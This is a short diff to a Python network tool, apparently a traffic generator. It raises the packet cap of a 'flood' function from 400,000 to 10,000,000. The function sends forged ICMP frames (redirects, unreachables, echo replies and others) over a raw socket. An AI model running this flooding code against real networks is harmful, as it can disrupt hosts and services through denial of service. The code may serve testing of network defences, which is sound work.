@@ -316,7 +316,7 @@ def overrun(interface, near_mac, said):
 
 
 def flood(interface, near_mac, near, seconds):
-    """Echo replies, unreachables about scans that nobody made, redirects, time exceeded; at most 400,000."""
+    """Echo replies, unreachables about scans that nobody made, redirects, time exceeded; at most 10,000,000."""
     s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
     s.bind((interface, 0))
     link = bytes.fromhex(near_mac.replace(":", "")) + s.getsockname()[4]
@@ -331,7 +331,7 @@ def flood(interface, near_mac, near, seconds):
         kind, code = chance.choice(((0, 0), (3, 1), (3, 3), (3, 13), (5, 1), (11, 0), (8, 0)))
         batch.append(icmp(link, source, target, kind, code, quoted))
     print("ready", flush=True)
-    while time.monotonic() < until and sent < 400000:
+    while time.monotonic() < until and sent < 10000000:
         for frame in batch:
             try:
                 s.send(frame)
